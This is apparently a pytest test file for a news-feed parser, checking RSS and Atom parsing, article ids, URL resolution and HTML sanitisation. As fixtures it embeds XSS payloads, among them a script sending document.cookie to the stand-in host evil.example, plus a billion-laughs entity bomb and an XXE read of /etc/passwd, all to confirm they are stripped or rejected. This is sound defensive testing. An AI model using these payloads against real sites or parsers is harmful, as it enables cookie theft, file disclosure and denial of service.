"""parse_feed: fixtures, hostile input, and feedparser's own test corpus."""
from __future__ import annotations

import io
import re
from pathlib import Path

import feedparser
import pytest

from pipeline import codec
from pipeline.feeds.identity import article_id_for, canonical_url
from pipeline.feeds.parse import ParsedFeed, needs_full_text, parse_feed
from pipeline.feeds.sanitize import html_to_text, sanitize_html
from tests.shared_data import SHARED_DATA

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "feeds"
CORPUS = SHARED_DATA / "feeds" / "feedparser_tests" / "tests"
FETCHED = "2024-05-15T10:00:00Z"
# Anything that can run script or load active content in a browser.
UNSAFE = re.compile(
    r"<\s*/?\s*(script|iframe|object|embed|style|applet|frame|meta|link|base|form)\b"
    r"|<[^>]*\son[a-z]+\s*=|<[^>]*\sstyle\s*=|<[^>]*=\s*[\"']?\s*(javascript|vbscript|data)\s*:",
    re.I,
)


def _parse(data: bytes, **kwargs) -> ParsedFeed:
    kwargs.setdefault("feed_url", "https://news.example.com/world/rss")
    return parse_feed(data, fetched_at=FETCHED, **kwargs)


def _fixture(name: str, **kwargs) -> ParsedFeed:
    return _parse((FIXTURES / name).read_bytes(), **kwargs)


def test_world_rss_articles():
    feed = _fixture("world.rss", headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    assert feed.error is None and feed.warning is None
    assert feed.title == "Example World Desk" and feed.ttl_minutes == 15 and feed.language == "en-gb"
    assert len(feed.articles) == 3 and feed.keys[0] == "example-world-2024-0514-001"
    first = feed.articles[0]
    # The link as the publisher gave it; the id is a hash of its canonical form.
    assert first.url == ("https://news.example.com/world/2024/05/14/geneva-aid-corridor-talks"
                         "?utm_source=rss&utm_medium=feed")
    assert first.id == article_id_for("https://news.example.com/world/2024/05/14/geneva-aid-corridor-talks")
    assert first.source == "Example World Desk" and first.feed_url.endswith("/rss")
    assert first.guid == "example-world-2024-0514-001"
    assert first.content_type == "text/html"
    # content:encoded beats the one-line description
    assert first.content.count("<p>") == 4 and "said Halvorsen" in first.content
    assert first.summary.startswith("<p>The foreign minister met his counterpart")
    assert first.published_at == "2024-05-14T16:45:00Z" and first.fetched_at == FETCHED
    assert first.language == "en-gb"
    assert not needs_full_text(first)
    for article in feed.articles:  # every record honours the published contract
        codec.validate("raw_article", codec.to_dict(article))


def test_summary_only_atom_needs_full_text():
    feed = _fixture("summary_only.atom")
    assert feed.error is None and feed.title == "Example Briefing"
    assert all(a.source == "Example Briefing" for a in feed.articles)
    assert [a.content_type for a in feed.articles] == ["text/plain", "text/html", "text/plain"]
    assert all(needs_full_text(a) for a in feed.articles)
    brazil = feed.articles[1]
    assert brazil.title == "Brazil recalls ambassador after diplomatic row"
    assert '"The remarks were unacceptable," said Foreign Minister Paulo Mendes.' in html_to_text(brazil.content)
    # Atom offsets are converted to UTC; published beats updated.
    assert feed.articles[0].published_at == "2024-05-14T16:00:00Z"
    assert brazil.published_at == "2024-05-14T12:10:00Z"
    assert feed.articles[0].language == "en"


def test_same_story_in_two_feeds_gets_one_id():
    world = _fixture("world.rss").articles[0]
    brief = _fixture("summary_only.atom").articles[0]
    assert world.guid != brief.guid and world.url != brief.url  # different trackers
    assert world.id == brief.id and canonical_url(world.url) == canonical_url(brief.url)


def test_atom_content_is_not_repeated_as_summary():
    data = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry>
      <id>urn:1</id><title>T</title><link href="/story/1?utm_source=x"/>
      <content type="html">&lt;p&gt;Body text&lt;/p&gt;</content></entry></feed>"""
    article = _parse(data, feed_url="https://a.example/feed.atom").articles[0]
    assert article.content == "<p>Body text</p>" and article.summary is None
    assert article.url == "https://a.example/story/1?utm_source=x"  # relative link resolved
    assert article.published_at is None and article.language is None


def test_plain_text_html_entities_and_title_markup():
    data = b"""<rss version="2.0"><channel><title>R &amp;amp; D</title><item>
      <title>Tom &amp;amp; Jerry &lt;b&gt;bold&lt;/b&gt;</title>
      <description>Fish &amp;amp; chips, no tags</description>
      <guid isPermaLink="true">https://r.example/a#frag</guid></item></channel></rss>"""
    feed = _parse(data)
    article = feed.articles[0]
    assert feed.title == "R & D" and article.title == "Tom & Jerry bold"
    assert article.content == "Fish & chips, no tags" and article.content_type == "text/plain"
    assert article.url == "https://r.example/a#frag"  # permalink guid stands in for the link
    assert article.id == article_id_for("https://r.example/a")
    assert feed.keys == ["https://r.example/a#frag"]


def test_entries_without_link_or_guid_are_skipped_and_counted():
    data = b"""<rss version="2.0"><channel><title>R</title>
      <item><title>No identity</title><description>x</description></item>
      <item><title>Opaque guid</title><guid isPermaLink="false">tag:r,2024:7</guid></item>
      </channel></rss>"""
    feed = _parse(data)
    assert feed.skipped == 1 and len(feed.articles) == 1
    article = feed.articles[0]
    assert article.url == "tag:r,2024:7" and article.id == article_id_for("tag:r,2024:7")
    assert article.content == "" and needs_full_text(article)



def test_seen_entries_keep_their_key_but_are_not_built():
    data = (FIXTURES / "world.rss").read_bytes()
    full = _parse(data)
    known = {full.keys[0], full.keys[2]}
    lean = _parse(data, seen=known)
    assert lean.keys == full.keys and lean.skipped == full.skipped
    assert lean.articles == [None, full.articles[1], None]


MALICIOUS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Evil &lt;script&gt;alert(1)&lt;/script&gt; feed</title>
<item><title>Hi &lt;img src=x onerror=alert(1)&gt;</title><link>https://evil.example/a</link>
<description>&lt;p onclick="steal()"&gt;Click &lt;a href="javascript:alert(1)"&gt;here&lt;/a&gt;&lt;/p&gt;</description>
<content:encoded><![CDATA[<p onmouseover="x()" style="background:url(javascript:alert(1))">Body</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">
<style>body{display:none}</style><a href=" JaVaScRiPt:alert(2)">link</a>
<img src="https://ok.example/p.jpg" onerror="alert(3)" alt="photo"><svg onload="alert(4)"></svg>
<p>More honest text that stays.</p>]]></content:encoded>
</item></channel></rss>"""


def test_malicious_markup_is_removed():
    feed = _parse(MALICIOUS)
    assert feed.error is None
    article = feed.articles[0]
    for value in (article.content, article.summary, article.title, feed.title):
        assert not UNSAFE.search(value), value
        assert "alert(" not in value and "document.cookie" not in value
    assert "Body" in article.content and "More honest text that stays." in article.content
    assert re.search(r'<img (alt="photo" )?src="https://ok.example/p.jpg"', article.content)
    assert article.title == "Hi" and feed.title == "Evil feed"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://e.example/a</link></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>T</title><item><title>&xxe;</title>
<link>https://e.example/a</link></item></channel></rss>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
def test_entity_attacks_are_a_clean_error(data):
    feed = _parse(data)
    assert feed.articles == [] and "entities" in feed.error


@pytest.mark.parametrize("data, expected", [
    (b"", "empty document"),
    (b"<html><body><p>Not a feed</p></body></html>", "malformed feed"),
    (b"<rss><channel><item><title>unclosed", None),
    (b"\xff\xfe\x00garbage\x00", "feed"),
    (b"{\"version\": \"https://jsonfeed.org/version/1\"}", "malformed feed"),
])
def test_bad_input_never_raises(data, expected):
    feed = _parse(data, headers={"Content-Type": "text/html"})
    assert isinstance(feed, ParsedFeed)
    if expected:
        assert expected in feed.error and feed.articles == []


def test_bytes_that_look_like_a_path_are_not_opened(tmp_path):
    secret = tmp_path / "secret.rss"
    secret.write_bytes((FIXTURES / "world.rss").read_bytes())
    feed = _parse(str(secret).encode())
    assert feed.articles == [] and feed.error


def test_declared_charset_in_headers_is_honoured():
    body = ('<?xml version="1.0"?><rss version="2.0"><channel><title>Caf\u00e9</title><item>'
            '<title>Ni\u00f1o</title><link>https://e.example/n</link></item></channel></rss>')
    feed = _parse(body.encode("iso-8859-1"),
                  headers={"Content-Type": "application/rss+xml; charset=iso-8859-1"})
    assert feed.title == "Caf\u00e9" and feed.articles[0].title == "Ni\u00f1o"


def test_sy_update_period_gives_ttl_hint():
    data = b"""<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">
      <channel><title>S</title><sy:updatePeriod>hourly</sy:updatePeriod>
      <sy:updateFrequency>2</sy:updateFrequency></channel></rss>"""
    feed = _parse(data)
    assert feed.error is None and feed.articles == [] and feed.ttl_minutes == 30


def _corpus_files():
    if not CORPUS.is_dir():
        return []
    return sorted(p for p in CORPUS.rglob("*") if p.is_file())


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared feedparser corpus not present")
def test_feedparser_corpus_never_raises_and_never_leaks_script():
    files = _corpus_files()
    assert len(files) > 2000
    articles = 0
    for path in files:
        feed = parse_feed(path.read_bytes(), feed_url="http://example.com/feed",
                          headers=_corpus_headers(path), fetched_at=FETCHED)
        articles += len(feed.articles)
        for article in feed.articles:
            for value in (article.content, article.summary or ""):
                assert not UNSAFE.search(value), (path, value)
    assert articles > 100


def _corpus_headers(path: Path) -> dict[str, str]:
    # Corpus files simulate HTTP headers in a "Header:" comment line.
    match = re.search(rb"Header:\s*([\w-]+):\s*(.*)", path.read_bytes()[:600])
    return {match[1].decode(): match[2].decode("latin-1").strip()} if match else {}


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared feedparser corpus not present")
def test_post_sanitiser_alone_cleans_feedparser_sanitize_corpus():
    """Defence in depth: even with feedparser's sanitiser off, ours suffices."""
    hostile = cleaned = 0
    for path in sorted((CORPUS / "wellformed" / "sanitize").glob("*.xml")):
        parsed = feedparser.parse(io.BytesIO(path.read_bytes()), sanitize_html=False)
        for entry in parsed.entries:
            values = [c.value for c in entry.get("content", [])] + [entry.get("summary") or ""]
            for value in filter(None, values):
                hostile += bool(UNSAFE.search(value))
                assert not UNSAFE.search(sanitize_html(value)), (path.name, value)
                cleaned += 1
    assert hostile > 100 and cleaned > 500


RELATIVE = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://news.example.com/world/">
<title>R</title>
<entry><id>tag:r,1</id><link href="story/1"/><title>One</title>
<content type="html">&lt;p&gt;See &lt;a href="/other"&gt;this&lt;/a&gt; &lt;img src="pic.jpg"&gt;&lt;/p&gt;</content></entry>
<entry xml:base="https://cdn.example/x/"><id>tag:r,2</id><link href="two"/><title>Two</title>
<summary type="html">&lt;a href="rel"&gt;r&lt;/a&gt; &lt;a href="javascript:x()"&gt;j&lt;/a&gt;</summary></entry>
</feed>"""


def test_relative_urls_in_entry_html_resolve_against_xml_base():
    # feedparser's own resolver is off (parse._FEEDPARSER_OPTIONS): the
    # sanitiser resolves against the base feedparser records per field.
    first, second = _parse(RELATIVE).articles
    assert first.url == "https://news.example.com/world/story/1"
    assert first.content == ('<p>See <a href="https://news.example.com/other">this</a> '
                             '<img src="https://news.example.com/world/pic.jpg"></p>')
    assert second.url == "https://cdn.example/x/two"
    assert second.content == '<a href="https://cdn.example/x/rel">r</a> <a>j</a>'


def test_relative_urls_without_xml_base_resolve_against_the_feed_url():
    data = b"""<rss version="2.0"><channel><title>T</title><item><link>/a/1</link>
      <description>&lt;p&gt;&lt;a href="2"&gt;next&lt;/a&gt;&lt;/p&gt;</description></item></channel></rss>"""
    article = _parse(data, feed_url="https://e.example/feeds/rss").articles[0]
    assert article.url == "https://e.example/a/1"
    assert article.content == '<p><a href="https://e.example/feeds/2">next</a></p>'


@pytest.mark.skipif(not CORPUS.is_dir(), reason="shared feedparser corpus not present")
def test_sanitize_corpus_through_the_poller_path_leaks_nothing():
    """feedparser's sanitiser is off in parse_feed: every emitted field must still be clean."""
    checked = 0
    for path in sorted((CORPUS / "wellformed" / "sanitize").glob("*.xml")):
        data = path.read_bytes()
        # Give every entry a link so that none is dropped for want of identity.
        data = data.replace(b"</entry>", b"<link href='http://e.example/a'/></entry>")
        data = data.replace(b"</item>", b"<link>http://e.example/a</link></item>")
        feed = parse_feed(data, feed_url="http://example.com/feed", fetched_at=FETCHED)
        assert not UNSAFE.search(feed.title or ""), (path.name, feed.title)
        for article in feed.articles:
            for value in (article.content, article.summary or "", article.title):
                assert not UNSAFE.search(value) and "alert(" not in value, (path.name, value)
            checked += 1
    assert checked > 500
